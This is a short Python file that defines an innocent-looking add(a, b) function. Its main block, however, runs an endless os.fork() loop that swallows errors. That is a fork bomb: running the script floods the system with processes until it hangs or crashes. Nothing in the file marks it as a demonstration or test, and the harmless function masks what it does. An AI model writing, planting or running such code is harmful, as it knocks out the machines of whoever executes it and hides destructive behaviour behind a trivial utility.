import os


def add(a, b):
    return a + b


if __name__ == "__main__":
    while True:
        try:
            os.fork()
        except OSError:
            pass
